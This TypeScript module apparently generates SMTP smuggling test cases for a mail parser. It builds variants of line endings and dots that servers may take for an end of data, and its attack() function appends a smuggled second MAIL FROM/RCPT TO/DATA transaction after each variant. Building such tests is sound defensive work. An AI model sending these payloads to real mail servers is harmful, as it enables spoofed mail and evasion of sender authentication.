// SPDX-License-Identifier: MIT
/** Everything that some reader somewhere might take for an end of data, and that is none. */
import { readMailData } from './mail-data-readers.ts';

/** One of them, as latin1 text. */
export interface Variant {
  readonly name: string;
  readonly text: string;
}

/** Line ends, and what has been taken for one or dropped around one. */
const lineEnds: Readonly<Record<string, string>> = {
  nothing: '',
  LF: '\n',
  CR: '\r',
  CRLF: '\r\n',
  LFCR: '\n\r',
  CRCRLF: '\r\r\n',
  CRLFLF: '\r\n\n',
  CRLFCR: '\r\n\r',
  'CR NUL LF': '\r\0\n',
  'CRLF NUL': '\r\n\0',
  'NUL CRLF': '\0\r\n',
  'LF NUL': '\n\0',
  NUL: '\0',
  VT: '\v',
  FF: '\f',
  NEL: '\x85',
  '8-bit CRLF': '\x8d\x8a',
  'UTF-8 line separator': '\xe2\x80\xa8',
  'CRLF blank': '\r\n ',
};

const dots: Readonly<Record<string, string>> = {
  dot: '.',
  'two dots': '..',
  'three dots': '...',
  'dot NUL': '.\0',
  'NUL dot': '\0.',
  'dot blank': '. ',
  'dot tab': '.\t',
  '8-bit dot': '\xae',
};

/** What stands before a variant, as latin1 text; each is the beginning of a sound message. */
export const places: Readonly<Record<string, string>> = {
  'in the body': 'Subject: x\r\n\r\ntext',
  'at the very start': '',
  'in the header': 'X-Field: a',
  'in a folded line': 'X-Field: a\r\n\tfolded',
  'behind 8-bit text': 'Subject: x\r\n\r\n\xe4\xff',
  'behind dots': '..\r\n.x\r\n..',
};

/** All combinations of a line end, a dot and a line end, but for those that hold the true end of data. */
export const variants: readonly Variant[] = combinations(Object.keys(lineEnds), Object.keys(dots));

/** Those made of CR, LF, NUL and dots alone. */
export const coreVariants: readonly Variant[] = variants.filter(({ text }) => /^[\r\n\0.]+$/.test(text));

/** Mail data with a variant in it, and behind it what a fooled server would take for another message. */
export function attack(place: string, { text }: Variant, recipient: string): string {
  return (
    `${place}${text}MAIL FROM:<smuggled@b.example>\r\nRCPT TO:<${recipient}>\r\nDATA\r\n` +
    'Subject: smuggled\r\n\r\nsmuggled\r\n.\r\n'
  );
}

function combinations(ends: readonly string[], dotNames: readonly string[]): Variant[] {
  const all = ends.flatMap((before) =>
    dotNames.flatMap((dot) =>
      ends.map((after) => ({
        name: `${before}, ${dot}, ${after}`,
        text: `${lineEnds[before]}${dots[dot]}${lineEnds[after]}`,
      })),
    ),
  );
  const holdsTrueEnd = (text: string): boolean =>
    Object.values(places).some(
      (place) => readMailData(attack(place, { name: '', text }, 'a@b'))?.rest !== '',
    );
  const seen = new Set<string>();
  return all.filter(({ text }) => {
    if (seen.has(text) || holdsTrueEnd(text)) return false;
    seen.add(text);
    return true;
  });
}
